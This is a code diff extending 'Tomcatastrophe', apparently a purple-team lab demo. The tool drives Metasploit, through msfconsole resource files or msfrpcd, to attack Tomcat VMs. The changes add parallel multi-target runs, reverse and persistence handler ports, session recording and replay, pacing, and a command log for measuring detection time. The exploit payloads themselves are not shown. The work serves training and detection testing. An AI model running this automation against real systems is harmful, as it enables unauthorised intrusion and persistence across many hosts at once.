+            ["msfconsole", "-q", "-r", rc_path],
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.STDOUT,
+            text=True,
+            errors="replace",
+        )
+        for line in process.stdout:
+            self._emit(prefix, line.rstrip("\n"))
+        returncode = self.supervisor.wait(process)
+        duration = time.monotonic() - start
+        if config.command_log:
+            CommandLog(config.command_log, config.run_id, config.target_ip).record(
+                f"msfconsole -q -r {rc_path}", 1, "T1190", started, duration, returncode
+            )
+
+        self._emit(prefix, f"Finished with exit code {returncode} in {duration:.1f}s")
+        return TargetResult(config.target_ip, returncode, duration)
+
+    def run(self) -> list[TargetResult]:
+        """Run all targets and print a summary; returns per-target results."""
+        ports = [port for config in self.configs for port in (config.lport, config.persist_port)]
+        AttackExecutor(self.config).cleanup_previous_runs(ports)
+
+        Logger.info(f"Starting Tomcatastrophe against {len(self.targets)} targets")
+        Logger.info(f"Attacker: {self.config.attacker_ip}")
+        Logger.info(f"Parallel runs: {min(self.max_parallel, len(self.targets))}")
+        Logger.info(f"Handler ports: {self.config.lport}-{ports[-1]}")
+        Logger.phase_separator()
+
+        start = time.monotonic()
+        try:
+            with ThreadPoolExecutor(max_workers=self.max_parallel) as executor:
+                results = list(executor.map(self._run_target, range(len(self.targets))))
+        finally:
+            self.supervisor.shutdown()
+        elapsed = time.monotonic() - start
+
+        print()
+        Logger.info(f"Multi-target summary ({elapsed:.1f}s wall clock):")
+        for result in results:
+            status = f"{Color.GREEN}ok{Color.RESET}" if result.returncode == 0 else f"{Color.RED}exit {result.returncode}{Color.RESET}"
+            Logger.info(f"  {result.target_ip:<16} {status}  {result.duration:.1f}s")
+        return results
+
+
+def parse_targets(values: list[str], targets_file: str | None) -> list[str]:
+    """Collect targets from -t values (comma-separated) and an optional file."""
+    targets = [item.strip() for value in values for item in value.split(",") if item.strip()]
+    if targets_file:
+        with open(targets_file) as f:
+            targets += [line.strip() for line in f if line.strip() and not line.startswith("#")]
+    return list(dict.fromkeys(targets))
 
 
 def parse_arguments() -> argparse.Namespace:
@@ -542,21 +1667,51 @@ def parse_arguments() -> argparse.Namespace:
 Examples:
   %(prog)s -t 10.0.1.50 -a 10.0.1.100
   %(prog)s -t 10.0.1.50 -a 10.0.1.100 --fast
+  %(prog)s -t 10.0.1.50,10.0.1.51,10.0.1.52 -a 10.0.1.100 --max-parallel 3
+  %(prog)s --targets-file blue-fleet.txt -a 10.0.1.100
+  %(prog)s -t 10.0.1.50 -a 10.0.1.100 --record rehearsal.trace
+  MSF_RPC_PASSWORD=... %(prog)s -t 10.0.1.50 -a 10.0.1.100 --rpc
+  %(prog)s --replay rehearsal.trace --replay-speed 2
+  %(prog)s -t 10.0.1.50 -a 10.0.1.100 --duration 180 --timing-profile run.json
+  %(prog)s -t 10.0.1.50 -a 10.0.1.100 --duration 120 --calibrate run.json --plan
 """,
     )
 
     parser.add_argument(
         "-t", "--target",
         type=str,
-        required=True,
+        action="append",
+        default=[],
         metavar="IP",
-        help="Target IP address (blue-01 VM)",
+        help="Target IP address (blue-01 VM); repeat or comma-separate for multi-target mode",
+    )
+
+    parser.add_argument(
+        "--targets-file",
+        type=str,
+        metavar="FILE",
+        help="File with one target IP per line (multi-target mode)",
+    )
+
+    parser.add_argument(
+        "--max-parallel",
+        type=int,
+        default=10,
+        metavar="N",
+        help="Maximum concurrent runs in multi-target mode (default: 10)",
+    )
+
+    parser.add_argument(
+        "--base-port",
+        type=int,
+        default=4444,
+        metavar="PORT",
+        help="First handler port; each extra target uses the next two ports (default: 4444)",
     )
 
     parser.add_argument(
         "-a", "--attacker",
         type=str,
-        required=True,
         metavar="IP",
         help="Attacker IP address (red-01 VM)",
     )
@@ -567,23 +1722,178 @@ Examples:
         help="Shorter pauses for experienced audiences (5s instead of 10s)",
     )
 
-    return parser.parse_args()
+    parser.add_argument(
+        "--duration",
+        type=float,
+        metavar="SECONDS",
+        help="Target total runtime: every delay (typing, pauses) is scaled to fit",
+    )
+
+    parser.add_argument(
+        "--calibrate",
+        type=str,
+        metavar="FILE",
+        help="Use the command times measured in a previous --timing-profile when planning",
+    )
+
+    parser.add_argument(
+        "--timing-profile",
+        type=str,
+        metavar="FILE",
+        help="Write planned and actual time per phase (typing, pauses, commands) as JSON",
+    )
+
+    parser.add_argument(
+        "--plan",
+        action="store_true",
+        help="Print the planned timeline and delays, then exit without attacking",
+    )
+
+    parser.add_argument(
+        "--record",
+        type=str,
+        metavar="FILE",
+        help="Record the session (commands, output and timing) to a trace file",
+    )
+
+    parser.add_argument(
+        "--replay",
+        type=str,
+        metavar="FILE",
+        help="Replay a recorded trace instead of attacking (no lab needed)",
+    )
+
+    parser.add_argument(
+        "--replay-speed",
+        type=float,
+        default=1.0,
+        metavar="FACTOR",
+        help="Replay speed factor: 2 = twice as fast, 0 = no delays (default: 1)",
+    )
+
+    parser.add_argument(
+        "--pipeline",
+        action="store_true",
+        help="Send each phase's commands to the session in one batch (one round trip per phase)",
+    )
+
+    parser.add_argument(
+        "--rpc",
+        nargs="?",
+        const=DEFAULT_RPC_URL,
+        metavar="URL",
+        help=f"Drive a running msfrpcd instead of starting msfconsole (default URL: {DEFAULT_RPC_URL})",
+    )
+
+    parser.add_argument(
+        "--rpc-user",
+        default="msf",
+        help="msfrpcd username (default: msf)",
+    )
+
+    parser.add_argument(
+        "--rpc-password",
+        default=os.environ.get("MSF_RPC_PASSWORD", ""),
+        help="msfrpcd password (default: $MSF_RPC_PASSWORD)",
+    )
+
+    parser.add_argument(
+        "--command-log",
+        type=str,
+        default="/tmp/tomcatastrophe-commands.jsonl",
+        metavar="FILE",
+        help="Append executed commands as JSON lines for time_to_detect.py "
+        "(default: /tmp/tomcatastrophe-commands.jsonl; '' to disable)",
+    )
+
+    parser.add_argument(
+        "--no-typing",
+        action="store_true",
+        help="Print commands instantly instead of typing them (headless runs)",
+    )
+
+    args = parser.parse_args()
+    args.targets = parse_targets(args.target, args.targets_file)
+    if args.replay:
+        return args
+    if not args.targets:
+        parser.error("at least one target is required (-t/--target or --targets-file)")
+    if not args.attacker:
+        parser.error("the following arguments are required: -a/--attacker")
+    if args.record and len(args.targets) > 1:
+        parser.error("--record supports a single target")
+    if args.rpc and len(args.targets) > 1:
+        parser.error("--rpc supports a single target")
+    if args.timing_profile and len(args.targets) > 1:
+        parser.error("--timing-profile supports a single target")
+    if args.duration is not None and args.duration <= 0:
+        parser.error("--duration must be positive")
+    return args
+
+
+def replay_trace(args: argparse.Namespace) -> NoReturn:
+    """Play back a recorded trace and exit."""
+    speed = max(args.replay_speed, 0.0)
+    config = AttackConfig(
+        target_ip="",
+        attacker_ip="",
+        typing_delay=AttackConfig.typing_delay / speed if speed > 0 else 0.0,
+        render_typing=speed > 0 and not args.no_typing,
+    )
+    player = TracePlayer(args.replay, DemoTerminal(config), speed)
+    metadata = player.metadata()
+    Logger.info(f"Replaying {args.replay} (recorded {metadata.get('recorded_at', 'unknown')}, speed {speed:g}x)")
+    player.play()
+    sys.exit(0)
 
 
 def main() -> NoReturn:
     """Main entry point."""
     args = parse_arguments()
+    if args.replay:
+        replay_trace(args)
 
     # Configure timing
     phase_pause = 5.0 if args.fast else 10.0
 
     config = AttackConfig(
-        target_ip=args.target,
+        target_ip=args.targets[0],
         attacker_ip=args.attacker,
         phase_pause=phase_pause,
+        render_typing=not args.no_typing,
+        lport=args.base_port,
+        persist_port=args.base_port + 1,
+        command_log=args.command_log or None,
+        pipeline=args.pipeline,
+        rpc_url=args.rpc,
+        rpc_user=args.rpc_user,
+        rpc_password=args.rpc_password,
+        run_id=uuid.uuid4().hex[:12],
     )
 
-    executor = AttackExecutor(config)
+    # Lay out the whole run up front; --duration solves for the delays
+    steps = build_timeline(config)
+    scale = 1.0
+    if args.calibrate:
+        with open(args.calibrate) as f:
+            steps = calibrate_timeline(steps, json.load(f))
+    if args.duration:
+        config, scale = solve_pacing(config, args.duration, steps)
+    if args.plan:
+        print_timeline(config, steps, args.duration, scale)
+        sys.exit(0)
+
+    recorder = None
+    if args.record:
+        recorder = TraceRecorder(
+            args.record,
+            {
+                "recorded_at": datetime.now(timezone.utc).isoformat(),
+                "target": config.target_ip,
+                "attacker": config.attacker_ip,
+            },
+        )
+        sys.stdout = RecordingStream(sys.stdout, recorder)
 
     print()
     print(f"{Color.RED} _                           _            _                  _          {Color.RESET}")
@@ -595,10 +1905,39 @@ def main() -> NoReturn:
     print()
     print(f"{Color.WHITE}                 Purple Team Attack Automation Demo{Color.RESET}")
     print()
+    if args.duration:
+        print_timeline(config, steps, args.duration, scale)
+        print()
 
-    executor.run_full_attack()
-
-    Logger.success("Tomcatastrophe complete!")
+    try:
+        if len(args.targets) > 1:
+            results = MultiTargetRunner(config, args.targets, args.max_parallel).run()
+            failed = [result for result in results if result.returncode != 0]
+            if failed:
+                Logger.info(f"{Color.RED}{len(failed)} of {len(results)} targets failed{Color.RESET}")
+                sys.exit(1)
+        else:
+            executor = AttackExecutor(config, recorder)
+            try:
+                executor.run_full_attack()
+            except MsfRpcError as e:
+                Logger.info(f"{Color.RED}Metasploit RPC error: {e}{Color.RESET}")
+                sys.exit(1)
+            if args.duration or args.timing_profile:
+                report = executor.terminal.profile.report(config, steps, args.duration, scale)
+                print_timing_profile(report)
+                if args.timing_profile:
+                    with open(args.timing_profile, "w") as f:
+                        json.dump(report, f, indent=2)
+                    Logger.info(f"Timing profile: {args.timing_profile}")
+
+        Logger.success("Tomcatastrophe complete!")
+        if config.command_log:
+            Logger.info(f"Command log: {config.command_log} (run {config.run_id})")
+    finally:
+        if recorder:
+            sys.stdout.flush()
+            recorder.close()
     sys.exit(0)
 
 